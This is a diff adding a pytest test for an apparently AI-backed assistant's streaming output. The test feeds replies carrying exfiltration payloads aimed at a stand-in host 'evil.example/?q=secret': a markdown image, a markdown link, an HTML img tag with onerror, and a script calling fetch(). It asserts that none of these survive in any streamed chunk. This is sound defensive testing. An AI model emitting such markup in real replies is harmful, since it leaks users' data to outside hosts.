@@ -103,6 +103,27 @@ def test_a_stream_gives_the_text_in_pieces_and_then_the_answer(opened):
     assert isinstance(answer, Answer)
 
 
+EVIL = "https://evil.example/?q=secret"
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        f"![map]({EVIL}) It cost 12 million euros [1].",
+        f"It cost [12 million]({EVIL}) euros [1].",
+        f'<img src="{EVIL}" onerror=x>It <b>cost</b> 12 million euros [1].',
+        f"<script>fetch('{EVIL}')</script>It cost 12 million euros [1].",
+    ],
+    ids=["G02-image", "G03-link", "G02-html", "G02-script"],
+)
+@pytest.mark.parametrize("cut", [1, 4, 1000])
+def test_g02_what_a_reply_would_fetch_is_not_even_in_a_piece_of_it(opened, reply, cut):
+    pieces = [reply[at : at + cut] for at in range(0, len(reply), cut)]
+    *shown, answer = opened(pieces).stream(QUESTION)
+    assert "".join(shown).strip() == "It cost 12 million euros [1]."
+    assert answer.text == "It cost 12 million euros [1]."
+
+
 def test_an_edit_shows_in_the_next_answer(opened, folder):
     assistant = opened("It cost 12 million euros [1].", "It cost 15 million euros [1].")
     assistant.ask(QUESTION)
